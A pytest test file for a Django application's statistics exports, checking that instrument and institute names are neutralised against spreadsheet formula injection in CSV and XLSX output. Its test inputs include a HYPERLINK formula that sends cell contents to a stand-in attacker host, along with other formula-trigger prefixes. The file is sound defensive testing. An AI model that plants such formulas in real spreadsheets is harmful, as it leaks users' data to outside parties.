"""The annual report and instrument usage exports never hand a spreadsheet a formula typed by a person."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1", "-2+3", "@SUM(1)", "\tx"]


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("name", HOSTILE)
def test_usage_csv_quotes_a_hostile_instrument_name_and_keeps_numbers(client, tto, known_year, instrument, name):
    instrument.title = instrument.title_en = name
    instrument.save(update_fields=["title", "title_en"])
    client.force_login(tto)
    rows = csv_rows(client.get(reverse("statistics_export", args=["instruments", "csv"]), {"year": 2025}))
    line = next(r for r in rows if r and r[0].endswith(name))
    assert line[0] == "'" + name
    assert line[1:] == ["2", "10.00", "9.50", "1000.00", "1.0", "4500.00", "200150.00", "-195650.00"]


@pytest.mark.parametrize("name", HOSTILE)
def test_usage_xlsx_writes_a_hostile_instrument_name_as_text(client, tto, known_year, instrument, name):
    instrument.title = instrument.title_en = name
    instrument.save(update_fields=["title", "title_en"])
    client.force_login(tto)
    rows = xlsx_cells(client.get(reverse("statistics_export", args=["instruments", "xlsx"]), {"year": 2025}))
    line = next(r for r in rows if r[0].value == name)
    assert line[0].data_type == "s"
    assert all(cell.data_type != "f" for row in rows for cell in row)
    numbers = line[1:]
    assert all(cell.data_type == "n" for cell in numbers)
    assert Decimal(str(numbers[-1].value)) == Decimal("-195650.00")  # a deficit stays a negative number


@pytest.mark.parametrize("name", HOSTILE)
def test_annual_report_quotes_a_hostile_institute_name(client, tto, known_year, institute, name):
    institute.name = institute.name_en = name
    institute.save(update_fields=["name", "name_en"])
    client.force_login(tto)
    export = reverse("statistics_export", args=["annual", "csv"])
    rows = csv_rows(client.get(export, {"year": 2025}))
    assert ["Institute", "'" + name] in rows
    assert rows[-1] == ["Total", "6", "885000.00"]

    rows = xlsx_cells(client.get(reverse("statistics_export", args=["annual", "xlsx"]), {"year": 2025}))
    line = next(r for r in rows if r[0].value == "Institute")
    assert line[1].value == name and line[1].data_type == "s"
    assert all(cell.data_type != "f" for row in rows for cell in row)
    total = next(r for r in rows if r[0].value == "Total")
    assert total[1].data_type == "n" and total[1].value == 6
